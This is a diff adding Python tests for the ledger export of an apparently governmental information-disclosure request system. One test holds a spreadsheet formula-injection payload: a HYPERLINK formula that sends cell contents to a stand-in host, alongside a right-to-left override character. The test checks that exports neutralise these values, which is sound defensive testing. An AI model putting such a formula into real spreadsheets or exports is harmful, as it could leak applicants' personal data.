@@ -131,3 +131,30 @@ def test_importing_the_same_ledger_twice_is_refused_as_duplicates(db, cli, tmp_p
     assert (view.state, view.outcome, view.deadline.state, view.deadline.overdue) == ("closed", "予以公开", "closed",
                                                                                       False)
     assert [e.action for e in view.events] == ["receive", "accept", "imported_decision"]
+
+
+ATTACK = '=HYPERLINK("http://example.invalid/?"&B2&C2,"点击查看")'
+
+
+def test_an_export_cannot_run_a_formula_or_carry_control_characters_and_still_round_trips(filled, cli, tmp_path):
+    clerk = users.get("zhaomin")
+    requests.create(Intake(agency="YXSZFB", received=D(2025, 11, 4), channel="当面", applicant_type="自然人",
+                           applicant_name=ATTACK, content="@SUM(1+1)\u202e监测报告"), clerk, TODAY)
+    full = tmp_path / "full.xlsx"
+    assert cli("export", "ledger", "--year", "2025", "--out", str(full), "--with-personal-data")[0] == 0
+    sheet = openpyxl.load_workbook(full).active
+    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "YXSZFB-2025-0003")
+    assert row[5] == "'" + ATTACK and row[7] == "'@SUM(1+1)监测报告"
+    assert all(c.data_type == "s" for c in sheet[4] if c.value is not None)
+    assert oct(full.stat().st_mode & 0o777) == "0o600"  # personal data: the officer's eyes only
+    exported = tmp_path / "ledger.csv"
+    cli("export", "ledger", "--year", "2025", "--format", "csv", "--out", str(exported), "--with-personal-data")
+    assert read_csv(exported)[2]["applicant_name"] == "'" + ATTACK
+    assert "\u202e" not in exported.read_text(encoding="utf-8-sig")
+
+
+def test_an_export_that_cannot_be_written_leaves_no_record_of_an_export(filled, cli, tmp_path):
+    target = tmp_path / "missing" / "x.xlsx"
+    code, _, err = cli("export", "ledger", "--year", "2025", "--out", str(target), "--with-personal-data")
+    assert (code, err) == (1, f"错误：无法读写 {target}：文件夹不存在或不可创建\n")
+    assert SystemEvent.select().where(SystemEvent.action == "export_personal_data").count() == 0
